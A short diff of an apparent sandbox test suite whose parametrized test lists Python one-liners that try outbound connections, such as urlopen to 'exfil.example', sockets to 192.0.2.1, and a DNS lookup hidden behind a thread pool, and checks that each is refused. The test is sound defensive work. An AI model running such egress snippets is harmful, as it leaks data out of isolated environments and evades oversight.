@@ -38,7 +38,7 @@ def run(body):
         "import urllib.request; urllib.request.urlopen('https://exfil.example/')",
         "import http.client; http.client.HTTPSConnection('192.0.2.1', timeout=1).request('GET', '/')",
         "import asyncio; asyncio.run(asyncio.open_connection('192.0.2.1', 443))",
-        "from concurrent.futures import ThreadPoolExecutor as P; P().submit(socket.create_connection, ('192.0.2.1', 443)).result()",
+        "from concurrent.futures import *; ThreadPoolExecutor().submit(socket.gethostbyname, 'exfil.example').result()",
     ],
 )
 def test_what_would_leave_is_refused(attempt):
